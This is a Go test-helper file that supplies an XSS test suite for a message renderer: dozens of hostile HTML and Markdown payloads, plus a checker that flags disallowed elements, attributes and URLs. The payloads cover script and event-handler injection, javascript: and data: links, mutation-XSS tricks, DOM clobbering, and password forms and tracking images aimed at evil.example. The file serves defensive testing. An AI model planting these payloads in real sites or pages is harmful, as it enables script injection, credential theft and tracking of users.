// Package markuptest has hostile texts for tests of whatever shows what people write, and a check of the HTML that is shown.
package markuptest

import (
	"net/url"
	"regexp"
	"slices"
	"strings"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// Attack is a text that tries to do what a message must not be able to do. It is HTML, Markdown or both: every way in
// must withstand all of them.
type Attack struct {
	Name, Text string
}

// Marker is in every attack as a word that must stay readable, wherever the attack is shown.
const Marker = "canary"

// Attacks returns the suite.
func Attacks() []Attack {
	all := slices.Clone(attacks)
	for i := range all {
		all[i].Text = Marker + "\n\n" + all[i].Text
	}
	return all
}

var attacks = []Attack{
	{"script", `<script>pwned()</script>`},
	{"script with spaces and case", "<ScRiPt\n/x>pwned()</sCrIpT\t>"},
	{"script in script", `<scr<script>ipt>pwned()</scr</script>ipt>`},
	{"unclosed script", `<script src=//evil.example/x.js`},
	{"image event", `<img src=x onerror=pwned()>`},
	{"image event in quotes", `<img src="x" alt="&quot; onerror=pwned() x=&quot;" title='"><script>pwned()</script>'>`},
	{"image alternative", "<img alt=\"`><img src=x onerror=pwned()>\">"},
	{"svg", `<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s><a xlink:href="javascript:pwned()"><text>x</text></a></svg>`},
	{"svg style", `<svg><style><img src=x onerror=pwned()></style></svg>`},
	{"math", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">`},
	{"math link", `<math href="javascript:pwned()">x</math><math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:pwned()">x</maction></math>`},
	{"noscript", `<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>`},
	{"template", `<template><script>pwned()</script><img src=x onerror=pwned()></template>`},
	{"frames", `<iframe src="javascript:pwned()" srcdoc="<script>pwned()</script>"></iframe><frameset onload=pwned()><frame src="javascript:pwned()"></frameset>`},
	{"object and embed", `<object data="javascript:pwned()"><param name=x value=y></object><embed src="data:text/html,<script>pwned()</script>"><applet code=x></applet>`},
	{"style element", `<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example/track) }</style>`},
	{"style attribute", `<p style="position:fixed;inset:0;background:url(https://evil.example/t);width:expression(pwned())">x</p>`},
	{"style sheets", `<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/t">`},
	{"meta and base", `<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/" target=_top>`},
	{"form", `<form action="https://evil.example" method=post><input name=password type=password autofocus onfocus=pwned()><button formaction="javascript:pwned()">Sign in</button><select><option>x</select><textarea name=x></textarea></form>`},
	{"form by attribute", `<button form=reply name=verb value=close>x</button><input form=reply type=image src="https://evil.example/t">`},
	{"isindex and keygen", `<isindex action="javascript:pwned()"><keygen autofocus onfocus=pwned()>`},
	{"javascript link", `<a href="javascript:pwned()">x</a><a href=" &#1; JaVaScRiPt&colon;pwned()">x</a><a href="java&#x09;script:pwned()">x</a><a href="javascript&#58;pwned()">x</a>`},
	{"other links", `<a href="data:text/html,<script>pwned()</script>">x</a><a href="vbscript:pwned()">x</a><a href="file:///etc/passwd">x</a><a href="blob:https://evil.example/x">x</a><a href="//evil.example">x</a><a href="\\evil.example">x</a>`},
	{"deceiving link", "<a href=\"https://bank.example@evil.example/\">https://bank.example</a><a href=\"https://evil.example/\u202egpj.exe\">x</a>"},
	{"link attributes", `<a href="https://evil.example" ping="https://evil.example/t" onclick=pwned() target=_self rel=opener download=x style="position:fixed;inset:0" class=item-link id=reply>x</a>`},
	{"clobbering", `<a id=body name=body href="https://evil.example">x</a><img name=getElementById id=cookie src=x><form id=reply name=reply></form><p id=conversation class="composer">x</p>`},
	{"htmx", `<p hx-get="https://evil.example" hx-trigger=load hx-on:load="pwned()" data-hx-get="/" data-send=1>x</p><div hx-post="/sign-out" hx-trigger=load>x</div>`},
	{"data attributes", `<p data-do="x" data-number="x" data-body="x" contenteditable draggable=true accesskey=r tabindex=1 autofocus>x</p>`},
	{"aria", `<p role=alert aria-live=assertive aria-label="You have been signed out">x</p><p hidden>y</p>`},
	{"media", `<video src=x onerror=pwned() autoplay></video><audio controls src="https://evil.example/t"></audio><source srcset="https://evil.example/t"><track src="https://evil.example/t">`},
	{"image sets", `<picture><source srcset="https://evil.example/t"><img srcset="https://evil.example/t 1x" src=x></picture><img src=x lowsrc="https://evil.example/t" dynsrc="https://evil.example/t" background="https://evil.example/t">`},
	{"backgrounds", `<table background="https://evil.example/t"><tr background="https://evil.example/t"><td background="https://evil.example/t" style="background-image:url(https://evil.example/t)">x</td></tr></table><body background="https://evil.example/t" onload=pwned()>`},
	{"remote image", `<img src="https://evil.example/t.gif"><img src="//evil.example/t.gif"><img src="http://evil.example/t.gif" width=1 height=1>`},
	{"data image", `<img src="data:image/svg+xml,<svg onload=pwned()>"><img src="data:text/html;base64,PHNjcmlwdD4=">`},
	{"cid image", `<img src="cid:../../sign-out"><img src="cid:&quot; onerror=pwned() x=&quot;"><img src="cid:%22%3E%3Cscript%3Epwned()%3C/script%3E">`},
	{"comments", `<!--><script>pwned()</script>--><!-- --!><img src=x onerror=pwned()> --><![CDATA[<script>pwned()</script>]]><?php echo 1 ?><!doctype html [<!ENTITY x "y">]>`},
	{"conditional comments", `<!--[if gte mso 9]><script>pwned()</script><![endif]--><![if !mso]><img src=x onerror=pwned()><![endif]>`},
	{"breaking out", `</div></div></article></main></body></html><h1>You have been signed out</h1><div class=dialog>`},
	{"breaking out of a table", `</td></tr></table></p></blockquote><p>x`},
	{"raw text elements", `<textarea><script>pwned()</script></textarea><title><img src=x onerror=pwned()></title><xmp><img src=x onerror=pwned()></xmp><plaintext><script>pwned()</script>`},
	{"select and math", `<select><math><style><img src=x onerror=pwned()></style></math></select><svg></p><style><a id="</style><img src=1 onerror=pwned()>">`},
	{"foreign objects", `<svg><foreignObject><img src=x onerror=pwned()></foreignObject><desc><script>pwned()</script></desc></svg>`},
	{"slashes for spaces", `<img/src=x/onerror=pwned()><a/href="javascript:pwned()">x</a>`},
	{"null and control characters", "<scr\x00ipt>pwned()</script><img src=x on\x00error=pwned()>\x1b[2J\x07\ufeff"},
	{"invalid UTF-8", "<img src=x alt=\"\xc0\x22 onerror=pwned() \xff\">\xf0\x28\x8c\x28"},
	{"other charsets", "+ADw-script+AD4-pwned()+ADw-/script+AD4- \u00bcscript\u00bepwned()\u00bc/script\u00be \uff1cscript\uff1epwned()\uff1c/script\uff1e"},
	{"markdown link", "[x](javascript:pwned()) [y](<javascript:pwned()>) [z](JaVaScRiPt&colon;pwned()) [w](java\\script:pwned())\n\n[v]: javascript:pwned()\n\n[v] <javascript:pwned()> <vbscript:pwned()>"},
	{"markdown data link", "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+) ![y](data:image/svg+xml;base64,PHN2Zz4=)"},
	{"markdown image", "![x](https://evil.example/track.gif) ![y](javascript:pwned()) ![\" onerror=\"pwned()](x)"},
	{"markdown title", "[x](https://evil.example \"\\\" onclick=pwned() x=\\\"\") ![y](https://evil.example/x '\"><script>pwned()</script>')"},
	{"markdown code", "```\"><script>pwned()</script>\n</code></pre><script>pwned()</script>\n```\n\n`</code><script>pwned()</script>`"},
	{"markdown table", "| <script>pwned()</script> | </td></table><img src=x onerror=pwned()> |\n|:-:|-:|\n| [x](javascript:pwned()) | `|` |"},
	{"markdown and HTML", "<div>\n\n[x](javascript:pwned())\n\n</div>\n\n<a href=\"x\n\n\" onclick=pwned()>x</a>"},
	{"autolink", `https://evil.example/"onmouseover=pwned()// http://evil.example/<script>pwned()</script> https://evil.example/'><img src=x onerror=pwned()>`},
	{"template syntax", "{{.}} {{template \"x\"}} ${pwned()} <%= pwned() %> {% x %} [[${pwned()}]]"},
	{"ticket numbers", `HM-7Q2K9XM4TD<script>pwned()</script> HM-"onclick=x <a href="https://evil.example">HM-7Q2K9XM4TD</a>`},
	{"direction", "\u202e)(denwp\u202c \u2066\u2067\u2068 <bdo dir=rtl>x</bdo><p dir=\"x\" onclick=pwned()>y</p>"},
	{"combining marks", "Z" + strings.Repeat("\u0310\u0489", 500)},
	{"spans", `<table><tr><td colspan=1000000 rowspan=1000000>x</td></tr></table><ol start=-2147483648><li value=99999999999>x</ol>`},
	{"sizes", `<img src="https://evil.example/x" width=99999999 height=99999999><font size=99999 color=white>x</font><marquee>y</marquee>`},
	{"nesting", strings.Repeat("<div><blockquote><b>", 700) + "x"},
	{"nesting of markdown", strings.Repeat("> - ", 700) + "x"},
	{"unclosed elements", strings.Repeat("<p><b><i><u><a href=https://evil.example>", 400)},
	{"attributes", "<a " + strings.Repeat("x=y ", 2000) + "onclick=pwned() href=javascript:pwned()>x</a>"},
	{"stored placeholder", `<span class="remote-image" data-src="javascript:pwned()">x</span><span data-src="https://evil.example/t" onclick=pwned()>y</span><img data-src="data:text/html,x" src="javascript:pwned()">`},
	{"details", `<details open ontoggle=pwned()><summary onclick=pwned()>x</summary>y</details><details class=rest id=x>`},
}

// allowed are the elements of messages, with their attributes.
var allowed = map[string]string{
	"a": "href rel target", "b": "", "strong": "", "i": "", "em": "", "u": "", "s": "", "del": "", "ins": "", "code": "", "kbd": "", "samp": "",
	"var": "", "sub": "", "sup": "", "small": "", "mark": "", "q": "", "cite": "", "abbr": "", "dfn": "", "bdi": "", "br": "", "wbr": "", "hr": "",
	"span": "class data-src", "img": "src data-src alt width height loading referrerpolicy",
	"p": "", "div": "", "h3": "", "h4": "", "h5": "", "h6": "", "blockquote": "", "pre": "tabindex", "ul": "", "ol": "start", "dl": "", "li": "", "dt": "",
	"dd": "", "details": "class", "summary": "", "table": "tabindex", "caption": "", "thead": "", "tbody": "", "tfoot": "", "tr": "",
	"td": "colspan rowspan align", "th": "colspan rowspan align",
}

var (
	inStyle = regexp.MustCompile(`^[a-z0-9 :;.%#,-]+$`)
	inClass = regexp.MustCompile(`^(remote-image|rest)$`)
)

// Faults returns what is in HTML, as browsers read it, that must not be in a message. ours are beginnings of URLs of the site
// itself, to which links and images may lead.
func Faults(shown string, ours ...string) []string {
	context := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(shown), context)
	if err != nil {
		return []string{"it can't be parsed: " + err.Error()}
	}
	var faults []string
	for _, n := range nodes {
		for d := range all(n) {
			faults = append(faults, nodeFaults(d, ours)...)
		}
	}
	return faults
}

// all returns a node and its descendants.
func all(n *html.Node) func(yield func(*html.Node) bool) {
	return func(yield func(*html.Node) bool) {
		if !yield(n) {
			return
		}
		for d := range n.Descendants() {
			if !yield(d) {
				return
			}
		}
	}
}

func nodeFaults(n *html.Node, ours []string) []string {
	switch n.Type {
	case html.TextNode:
		return nil
	case html.ElementNode:
	default:
		return []string{"a comment or a doctype"}
	}
	attributes, known := allowed[n.Data]
	if !known || n.Namespace != "" {
		return []string{"an element " + n.Namespace + " " + n.Data}
	}
	var faults []string
	for _, a := range n.Attr {
		if fault := attributeFault(n.Data, a, attributes, ours); fault != "" {
			faults = append(faults, fault)
		}
	}
	return faults
}

func attributeFault(element string, a html.Attribute, attributes string, ours []string) string {
	fault := element + " with " + a.Key + "=" + a.Val
	good := slices.Contains(strings.Fields(attributes), a.Key)
	switch a.Key {
	case "dir":
		good = slices.Contains([]string{"auto", "ltr", "rtl"}, a.Val)
	case "style":
		good = inStyle.MatchString(a.Val) && !strings.Contains(a.Val, "position")
	case "class":
		good = good && inClass.MatchString(a.Val)
	case "href":
		good = good && (isWeb(a.Val) || strings.HasPrefix(a.Val, "mailto:") || strings.HasPrefix(a.Val, "tel:") || begins(a.Val, ours))
	case "src":
		good = good && (begins(a.Val, ours) || strings.HasPrefix(a.Val, "cid:"))
	case "data-src":
		good = good && isWeb(a.Val)
	}
	if good {
		return ""
	}
	return fault
}

func isWeb(address string) bool {
	u, err := url.Parse(address)
	return err == nil && (u.Scheme == "http" || u.Scheme == "https") && u.Host != "" && u.User == nil
}

func begins(address string, with []string) bool {
	return slices.ContainsFunc(with, func(ours string) bool { return strings.HasPrefix(address, ours) })
}
